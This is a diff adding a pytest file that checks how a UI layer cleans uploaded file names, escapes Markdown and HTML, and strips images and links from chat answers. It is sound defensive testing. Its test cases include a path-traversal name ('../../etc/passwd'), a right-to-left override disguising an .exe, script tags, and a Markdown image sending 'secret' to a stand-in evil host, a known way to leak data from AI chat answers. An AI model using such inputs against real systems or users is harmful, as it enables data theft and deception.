@@ -1,0 +1,66 @@
+"""Names and words that come from files and people, made harmless."""
+
+from __future__ import annotations
+
+import pytest
+
+from core.ui.contracts.upload import display_name
+from core.ui.escape import markup, md, plain, short
+from core.ui.qa.chat import harmless
+
+
+@pytest.mark.parametrize(
+    ("raw", "expected"),
+    [
+        ("contract.pdf", "contract.pdf"),
+        ("../../etc/passwd", "passwd"),
+        ("C:\\Users\\x\\契約書.docx", "契約書.docx"),
+        ("a\"b'c<script>.pdf", "a\"b'c<script>.pdf"),
+        ("line\nbreak\x00\u202efdp.exe", "line breakfdp.exe"),
+        ("😀契約.pdf", "😀契約.pdf"),
+        ("x" * 300 + ".pdf", "x" * 133 + "…" + "x" * 62 + ".pdf"),
+        ("..", "名前のないファイル"),
+        ("", "名前のないファイル"),
+    ],
+)
+def test_display_name(raw: str, expected: str) -> None:
+    assert display_name(raw) == expected
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("Plain words", "Plain words"),
+        ("**a** _b_ `c`", "\\*\\*a\\*\\* \\_b\\_ \\`c\\`"),
+        ("$x$ :red[y] :smile:", "\\$x\\$ \\:\u2060red\\[y\\] \\:\u2060smile\\:\u2060"),
+        ("![i](http://e.example)", "\\!\\[i\\]\\(http\\:\u2060\\/\\/e\\.example\\)"),
+        ("<script>", "\\<script\\>"),
+    ],
+)
+def test_markdown(text: str, expected: str) -> None:
+    assert md(text) == expected
+
+
+def test_short_keeps_both_ends() -> None:
+    assert short("abcdefghijklmnopqrstuvwxyz", 10) == "abcdef…xyz"
+    assert short("short") == "short"
+
+
+def test_plain_and_markup() -> None:
+    assert plain("a\r\nb\tc\u200bd") == "a b cd"
+    assert markup('<a href="x">\'&') == "&lt;a href=&quot;x&quot;&gt;&#x27;&amp;"
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("契約3 **X** [3 · p. 1]", "契約3 **X** [3 · p. 1]"),
+        ("![pixel](http://evil.example/?q=secret)", "![pixel]\\(http://evil.example/?q=secret)"),
+        ("[click](http://evil.example)", "[click]\\(http://evil.example)"),
+        ("[click][ref]", "[click]\\[ref]"),
+        ("<img src=x>", "\\<img src=x>"),
+        ("already \\<b\\>", "already \\<b\\>"),
+    ],
+)
+def test_answers_carry_no_pictures_or_links(text: str, expected: str) -> None:
+    assert harmless(text) == expected
